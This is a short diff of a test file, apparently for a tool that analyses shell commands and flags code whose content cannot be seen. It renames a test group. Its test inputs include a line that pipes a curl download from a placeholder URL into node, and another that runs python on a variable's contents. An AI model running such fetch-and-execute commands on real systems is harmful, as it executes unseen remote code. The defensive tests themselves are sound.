@@ -53,7 +53,7 @@ describe("inline code that only asks known commands", () => {
   ])("%s is opaque", (command) => expect(effect(command).opaque ?? effect(command).hidden).not.toBeNull());
 });
 
-describe("payloads nobody can see are hidden", () => {
+describe("code that cannot be seen is hidden", () => {
   test.each([
     'python3 - <<< "$X"',
     'node <<< "$(curl -s https://x)"',
